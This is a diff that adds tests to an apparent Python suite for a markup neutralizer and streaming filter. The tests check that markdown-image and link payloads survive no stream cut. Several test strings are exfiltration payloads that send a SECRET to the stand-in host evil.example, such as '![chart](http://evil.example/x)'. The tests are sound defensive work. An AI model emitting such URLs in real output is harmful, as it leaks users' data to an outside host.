@@ -206,3 +206,56 @@ def test_prose_that_looks_a_little_like_markup_reads_the_same() -> None:
     ]:
         assert neutralize(text) == text.replace("a<b", "a< b")
     assert neutralize("bell\x07 and \x1b[31mred\x1b[0m") == "bell and [31mred[0m"
+
+
+# "https:host" with no slashes is a URL to a browser but plain text to a reader, so the
+# stream tests use it beside a URL the neutralizer removes on sight.
+STREAM_URLS = [URLS[0], f"https:evil.example/?q={SECRET}"]
+# What comes before a payload decides where the filter may cut: at whitespace after
+# prose; anywhere, when a word outgrows the hold limit; at whitespace in a comment that
+# never closes, whose removal takes the whitespace with it.
+STREAM_PREFIXES = ["Leave is 25 days [1]. ", "A" * 401, "[x]<!--" + " a" * 210 + " "]
+
+
+def _streamed(pieces: list[str]) -> str:
+    stream = MarkupFilter()
+    return "".join([*(stream.feed(piece) for piece in pieces), stream.close()])
+
+
+def _stream_bypass(shown: str) -> str | None:
+    if neutralize(shown) != shown:
+        return f"not inert: {neutralize(shown)!r}"
+    return bypass(shown)
+
+
+def test_no_payload_survives_the_stream_cut_at_any_position() -> None:
+    cases = [
+        (prefix, element.replace("{u}", url))
+        for element, url in itertools.product(ELEMENTS, STREAM_URLS)
+        for prefix in STREAM_PREFIXES
+        # The long prefixes cost a 400-character neutralize per cut: one URL form there.
+        if prefix == STREAM_PREFIXES[0] or url == STREAM_URLS[1]
+    ]
+    for prefix, payload in cases:
+        text = f"{prefix}{payload} Notice is one month [2]."
+        for cut in range(len(prefix) - 1, len(prefix) + len(payload) + 2):
+            shown = _streamed([text[:cut], text[cut:]])
+            assert _stream_bypass(shown) is None, (payload, cut, shown)
+            # Prose after the payload survives unless a forced cut went through it.
+            assert prefix != STREAM_PREFIXES[0] or "Notice is one month [2]." in shown
+    for payload in {payload for _, payload in cases}:
+        shown = _streamed(list(f"{STREAM_PREFIXES[0]}{payload}"))
+        assert _stream_bypass(shown) is None, (payload, shown)
+
+
+def test_the_hold_limit_cutting_at_a_bracket_lets_no_image_through() -> None:
+    label = "A" * 401
+    shown = _streamed([f"![{label}]", f"(https:evil.example/?q={SECRET})"])
+    assert bypass(shown) is None, shown
+    assert "](" not in shown
+
+
+def test_a_stream_cut_at_whitespace_reads_as_the_whole_text() -> None:
+    text = "Leave is 25 days [1]. ![chart](http://evil.example/x) Notice is one month [2]."
+    for cut in range(len(text)):
+        assert _streamed([text[:cut], text[cut:]]) == neutralize(text)
